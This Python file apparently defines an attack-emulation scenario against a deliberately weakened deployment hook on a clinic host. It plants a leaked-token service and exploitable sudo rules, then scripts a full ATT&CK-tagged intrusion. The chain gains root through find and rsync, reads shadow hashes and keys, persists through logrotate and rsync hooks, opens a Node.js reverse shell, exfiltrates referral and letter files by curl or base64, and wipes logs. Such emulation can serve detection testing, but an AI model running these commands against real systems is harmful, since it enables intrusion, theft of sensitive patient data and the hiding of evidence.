"""A deployment hook runs recipes for whoever knows its token, and a public page of settings shows the token."""

from __future__ import annotations

import json
import re
from typing import TYPE_CHECKING

from plot import Storyline, Visit
from storylines._walk import walk
from storylines._ward import a_word

if TYPE_CHECKING:
    from intruder import Intruder, Shell

PORT = 9473

WEAKEN = r"""
set -e
id -u stagehand >/dev/null 2>&1 || useradd -r -m -d /opt/stagehand -s /bin/bash -c 'puts sites in place' stagehand
install -d -o stagehand -g stagehand /opt/stagehand/site /opt/stagehand/recipes /var/log/stagehand
cat > /opt/stagehand/hook.py <<'EOF'
# Puts sites in place: POST /apply with a recipe (JSON: name, files, steps) and the token.
import json
import pathlib
import subprocess

import appserver

HOME = pathlib.Path("/opt/stagehand")
TOKEN = (HOME / "token").read_text().strip()
SHOWN = {"service": "stagehand", "site": "/opt/stagehand/site", "log": "/var/log/stagehand/applied.log",
         "notify": f"http://clinic-14:9473/apply?token={TOKEN}"}


def handle(method, path, query, body, headers):
    if path == "/settings.json":
        return 200, json.dumps(SHOWN) + "\n"
    if path == "/recipes":
        return 200, "\n".join(sorted(p.name for p in (HOME / "recipes").iterdir())) + "\n"
    if path == "/apply" and method == "POST":
        if query.get("token") != TOKEN:
            return 403, "token?\n"
        recipe = json.loads(body)
        for name, text in recipe.get("files", {}).items():
            (HOME / "site" / pathlib.Path(name).name).write_text(text)
        said = []
        for step in recipe.get("steps", []):
            done = subprocess.run(["/bin/bash", "-c", step], cwd=HOME / "site", capture_output=True, timeout=600)
            said.append((done.stdout + done.stderr).decode("utf-8", "replace"))
        with open("/var/log/stagehand/applied.log", "a") as log:
            log.write(f"{recipe.get('name')} {len(said)}\n")
        return 200, "".join(said)
    return 404, "no such page\n"


appserver.serve(9473, handle, "stagehand")
EOF
echo stg-7c1fe2 > /opt/stagehand/token
printf '{"name": "rota", "steps": ["ls"]}\n' > /opt/stagehand/recipes/rota.json
chown -R stagehand: /opt/stagehand; chmod 600 /opt/stagehand/token
printf '%s\n' 'stagehand ALL=(root) NOPASSWD: /usr/bin/find /opt/stagehand/site *' \
    'stagehand ALL=(root) NOPASSWD: /usr/bin/rsync -a /opt/stagehand/site/ *' > /etc/sudoers.d/stagehand
chmod 440 /etc/sudoers.d/stagehand
printf '/var/log/stagehand/applied.log {\n    su stagehand stagehand\n    size 1\n    rotate 2\n    missingok\n}\n' \
    > /etc/logrotate.d/stagehand
echo '*/2 * * * * root /usr/sbin/logrotate -s /var/lib/logrotate/stagehand /etc/logrotate.d/stagehand' \
    > /etc/cron.d/stagehand
"""

FIRST = r"""
== first recipes | TA0007 | Recipes whose steps only look: whose account, what machine, what may it do.
T1033 id; pwd
T1082 uname -a; head -3 /etc/os-release
T1083 ls -la /opt /opt/stagehand /srv/shares
T1069.001 sudo -n -l
? T1057 ps -eo user,args | grep -v ' \[' | tail -20
? T1016 ip -o -4 addr; cat /etc/hosts | tail -4
"""

ROTATED = r"""
== up by find | TA0004 | A sudo rule lets find search the site as root, with any action.
T1548.003 sudo -n /usr/bin/find /opt/stagehand/site -maxdepth 0 -exec id \;
T1548.003 sudo -n /usr/bin/find /opt/stagehand/site -maxdepth 0 -exec /bin/bash -i \;
T1033 whoami; cd /srv/shares
== secrets | TA0006 | Hashes, settings and keys that lie about.
T1003.008 cut -d: -f1,2 /etc/shadow | grep ':\$'
T1552.001 grep -rIlE 'token|passw' /opt /etc/cron.d 2>/dev/null | head
T1552.004 ls -la /root/.ssh /home/*/.ssh 2>/dev/null
? T1552.003 tail -n 5 /home/*/.bash_history
== before each rotation | TA0003 | logrotate runs what its settings name before a rotation, as root, when cron calls it.
T1105 mkdir -p /usr/lib/stagehand; curl -fsS -o /usr/lib/stagehand/{file} {depot}/{file}
T1222.002 chmod 755 /usr/lib/stagehand/{file}
T1546 @plant /usr/lib/stagehand/{file}
T1546 sed -i 's|^    missingok|    missingok\n    prerotate\n        /usr/lib/stagehand/{file}\n\
    endscript|;s/su stagehand stagehand/su root root/' /etc/logrotate.d/stagehand
T1083 cat /etc/logrotate.d/stagehand
== referrals | TA0009 | The referrals of two years, sorted and packed.
T1083 du -sh /srv/shares/*
T1119 find /srv/shares/referrals -name '*.csv' -newermt 2020-01-01 -size +1k
T1074.001 mkdir /var/cache/{word}; sort -t';' -k3 /srv/shares/referrals/202[45]/referrals.csv > /var/cache/{word}/all
T1560.001 zstd -q --rm -19 /var/cache/{word}/all
== out | TA0010 | The packed table leaves by a PUT in two parts.
T1030 split -n 2 /var/cache/{word}/all.zst /var/cache/{word}/part.
T1048.003 for p in /var/cache/{word}/part.*; do curl -fsS -T $p {depot}/up/; done
== tidy | TA0005 | Parts and log lines go.
T1070.004 rm -r /var/cache/{word}
T1070.002 sed -i '/leaflets/d' /var/log/stagehand/applied.log
? T1070.006 touch -r /etc/logrotate.conf /etc/logrotate.d/stagehand
T1059.004 exit
"""

XFERED = r"""
== secrets | TA0006 | The recipes read settings and what other services keep.
T1552.001 cat /opt/stagehand/token; ls /opt/*/*.conf /etc/*.rsyncd 2>/dev/null
T1083 cat /etc/reports.rsyncd
? T1552.001 grep -rsIiE 'secret|passw' /opt --include=*.py --include=*.js | cut -c1-90 | head -5
== up by rsync | TA0004 | A sudo rule lets rsync copy the site anywhere; its remote shell may be any program.
T1222.002 printf '#!/bin/sh\nsh /opt/stagehand/site/{word}.cmd 1>&2\n' > {word}.rsh; chmod 755 {word}.rsh
T1548.003 echo 'id; tail -n 2 /etc/shadow' > {word}.cmd; sudo -n /usr/bin/rsync -a /opt/stagehand/site/\
 -e /opt/stagehand/site/{word}.rsh x:/y
T1087.001 echo 'getent passwd | grep -v nologin' > {word}.cmd; sudo -n /usr/bin/rsync -a /opt/stagehand/site/\
 -e /opt/stagehand/site/{word}.rsh x:/y
== before each transfer | TA0003 | The rsync server runs a program of the intruder's before every transfer of the rota.
T1105 echo 'install -d /usr/libexec/reports; curl -fsS -o /usr/libexec/reports/{file} {depot}/{file}; chmod 755\
 /usr/libexec/reports/{file}' > {word}.cmd; sudo -n /usr/bin/rsync -a /opt/stagehand/site/\
 -e /opt/stagehand/site/{word}.rsh x:/y
T1546 @plant /usr/libexec/reports/{file}
T1546 echo 'sed -i "/shares.rota/a\    pre-xfer exec = /usr/libexec/reports/{file}" /etc/reports.rsyncd' > {word}.cmd;\
 sudo -n /usr/bin/rsync -a /opt/stagehand/site/ -e /opt/stagehand/site/{word}.rsh x:/y
T1083 tail -n 5 /etc/reports.rsyncd
T1546 rsync rsync://localhost/rota/ | tail -1
== letters | TA0009 | Letters are turned into text and packed, by recipes and by the remote shell.
T1083 ls /srv/shares/letters/sent | tail -4
T1005 for f in /srv/shares/letters/sent/*.pdf; do pdftotext "$f" -; done > {word}.txt; wc {word}.txt
T1074.001 echo 'cat /srv/shares/referrals/2025/referrals.csv >> /opt/stagehand/site/{word}.txt' > {word}.cmd;\
 sudo -n /usr/bin/rsync -a /opt/stagehand/site/ -e /opt/stagehand/site/{word}.rsh x:/y
T1560.001 xz -k {word}.txt && ls -la {word}.txt.xz
== out | TA0010 | The answer of the hook carries it, in letters.
T1041 base64 -w 0 {word}.txt.xz | head -c 20000
T1041 base64 -w 0 {word}.txt.xz | tail -c +20001 | head -c 20000
== tidy | TA0005 | What the recipes left in the site goes.
T1070.004 rm -f {word}.txt {word}.txt.xz {word}.cmd {word}.rsh
? T1083 ls -la
T1070.002 : > /var/log/stagehand/applied.log
"""

NOTE = """#!/bin/bash
# notes the rotation
curl -fsS -m 5 -o /dev/null "DEPOT/n?h=$(hostname)&t=$(date +%s)" || true
"""


def apply(own: Intruder, token: str, step: str, technique: str, stays: bool = False) -> str:
    """One recipe with one step."""
    body = json.dumps({"name": "leaflets", "steps": [step]})
    return own.http(
        own.entry, PORT, "POST", f"/apply?token={token}", body, technique=technique, detached=stays, timeout=90
    )


def call_back(own: Intruder, token: str) -> Shell:
    code = (
        f'setsid node -e \'const s=require("net").connect(7447,"{own.address}"),c=require("child_process")'
        '.spawn("bash",["-i"]);s.pipe(c.stdin);c.stdout.pipe(s);c.stderr.pipe(s);s.on("close",()=>c.kill())\''
        " >/dev/null 2>&1 &"
    )
    return own.catch(7447, lambda: apply(own, token, code, "T1059.007"), "T1059.007")


def play(own: Intruder) -> None:
    middle = (4.0, 14.0)[own.variant]
    file = own.pick((("rotate-note", "shrink-note"), ("xfer-count", "xfer-stamp"))[own.variant])
    own.offer(file, NOTE.replace("DEPOT", own.depot))
    names = {"word": a_word(own), "file": file, "depot": own.depot}
    own.step("a page of settings", "TA0006", "The hook shows its settings to anybody, the token among them.")
    shown = ""
    for path in ("/", "/recipes", "/settings.json"):
        shown = own.http(own.entry, PORT, "GET", path, technique="T1528" if "settings" in path else "T1213")
        own.think(middle)
    found = re.search(r"token=([\w-]+)", shown)
    assert found, shown
    token = found.group(1)

    def recipe(technique: str, step: str, stays: bool) -> object:
        return apply(own, token, step, technique, stays)

    own.step("a recipe of one's own", "TA0001", "With the token the hook runs any step.")
    apply(own, token, "echo ready", "T1190")
    walk(own, FIRST, recipe, names, middle)
    if own.variant == 1:
        walk(own, XFERED, recipe, names, middle)
        return
    own.step("a shell", "TA0002", "A step opens a connection to the intruder, in JavaScript.")
    shell = call_back(own, token)
    walk(own, ROTATED, shell, names, middle)
    shell.close()


STORYLINE = Storyline(
    name="recipe-hook",
    split="test",
    words="A deployment hook runs the steps of recipes for whoever has its token, and its page of settings shows the "
    "token. Recipes look round and become root by a sudo rule for find or rsync; logrotate or the rsync server then "
    "runs the intruder's program; referrals and letters leave by PUT or in the hook's own answers.",
    weaken=WEAKEN,
    services=("stagehand: /usr/bin/python3 /opt/stagehand/hook.py",),
    visits=(
        Visit(PORT, 70, path="/{pick:recipes|recipes|settings.json}"),
        Visit(
            PORT,
            100,
            "POST",
            "/apply?token=stg-7c1fe2",
            '{"name": "rota", "files": {"r{n}.txt": "{word}"}, "steps": ["ls | wc -l", "find . -name \'r*.txt\''
            ' -mmin +9 -delete", "{pick:date|du -sk .|md5sum r*.txt}"]}',
        ),
    ),
    play=play,
    variants=2,
    hosts=("clinic-14",),
    minutes=14,
)
